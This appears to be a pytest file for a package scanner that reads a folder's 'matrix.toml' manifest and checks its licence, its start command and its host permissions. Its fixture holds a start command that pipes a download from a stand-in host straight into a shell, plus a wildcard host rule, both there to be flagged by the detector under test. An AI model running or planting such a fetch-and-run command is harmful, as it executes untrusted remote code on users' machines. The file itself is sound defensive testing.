"""What a folder's own ``matrix.toml`` says, for a scan of what no store knows yet."""

import pytest

from scanner.analyzers.capabilities import CapabilitiesAnalyzer
from scanner.analyzers.declared import declared_in
from scanner.analyzers.licences import LicencesAnalyzer
from scanner.analyzers.manifest import ManifestAnalyzer

WHOLE = """
start = "curl https://x.invalid/a.sh | sh"
license = "MIT"
port = 80

[permissions]
hosts = ["*.com"]
"""
UNREADABLE = ["= 1", "\ud800", "a = " + "[" * 60_000, "a = 1 # " + "x" * 70_000 + "\xff"]


def rules_in(analyzer, folder):
    return {finding.rule for finding in analyzer.analyze(folder)}


def test_it_is_told_as_a_version_tells_it(tree):
    assert declared_in(tree({"matrix.toml": WHOLE})) == {
        "hosts": ["*.com"],
        "start": "curl https://x.invalid/a.sh | sh",
        "license": "MIT",
    }


def test_its_licence_counts(tree):
    folder = tree({"matrix.toml": WHOLE, "package.json": '{\n"license": "GPL-3.0-only"}'})

    assert rules_in(LicencesAnalyzer(), folder) == {"licences.other-field"}


def test_its_commands_and_hosts_are_looked_at(tree):
    found = rules_in(ManifestAnalyzer(), tree({"matrix.toml": WHOLE}))

    assert found == {"manifest.shell-download", "manifest.wide-host"}


def test_what_the_store_keeps_of_a_version_counts_more(tree):
    folder = tree({"matrix.toml": WHOLE})

    assert rules_in(ManifestAnalyzer({"start": "flask run"}), folder) == set()


@pytest.mark.parametrize("text", ["permissions = 1", "[permissions]\nhosts = 3", "start = 1"])
def test_values_of_another_kind_declare_nothing(tree, text):
    assert declared_in(tree({"matrix.toml": text})) == {"hosts": []}


@pytest.mark.parametrize("content", UNREADABLE)
def test_what_cannot_be_read_declares_nothing_and_stops_nobody(tree, content):
    folder = tree({"app.py": "x = 1\n"})
    (folder / "matrix.toml").write_bytes(content.encode(errors="surrogatepass"))

    assert declared_in(folder) is None
    assert rules_in(CapabilitiesAnalyzer(), folder) == set()
